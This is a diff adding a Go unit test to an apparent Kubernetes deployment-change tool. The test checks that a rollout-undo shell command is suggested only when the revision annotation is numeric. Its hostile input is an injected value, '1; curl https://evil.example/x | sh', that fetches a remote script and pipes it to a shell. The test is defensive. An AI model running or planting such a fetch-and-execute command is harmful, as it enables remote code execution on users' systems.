@@ -230,3 +230,25 @@ func TestUnwatchedSaid(t *testing.T) {
 		t.Errorf("got  %s\nwant %s", got, want)
 	}
 }
+
+// TestUndoIsOnlyEverSafe: the undo command is pasted into shells, and the
+// revision annotation is anyone's who can edit the Deployment: a revision
+// that is not a number gives no command at all.
+func TestUndoIsOnlyEverSafe(t *testing.T) {
+	clk := &clock{time.Date(2026, 11, 25, 15, 0, 0, 0, time.UTC)}
+	c := newTestChanges(clk, Options{})
+	c.observe(deployment(1, "1; curl https://evil.example/x | sh", "helm", clk.t.Add(-time.Hour)))
+	d := deployment(2, "1; curl https://evil.example/x | sh", "argocd", clk.add(time.Minute))
+	d.Spec.Template.Spec.Containers[0].Image = "shop/checkout:1.9.0"
+	c.observe(d)
+	r := c.Before(checkout, clk.add(time.Minute), 30*time.Minute)
+	if len(r.Rollouts) != 1 || r.Undo != "" {
+		t.Errorf("rollouts %d, undo %q: want one rollout and no command", len(r.Rollouts), r.Undo)
+	}
+	c2 := newTestChanges(clk, Options{})
+	c2.observe(deployment(1, "12", "helm", clk.t.Add(-time.Hour)))
+	c2.observe(d)
+	if r := c2.Before(checkout, clk.add(time.Minute), 30*time.Minute); r.Undo != "kubectl rollout undo deployment/checkout -n shop --to-revision=12" {
+		t.Errorf("a numeric revision: undo %q", r.Undo)
+	}
+}
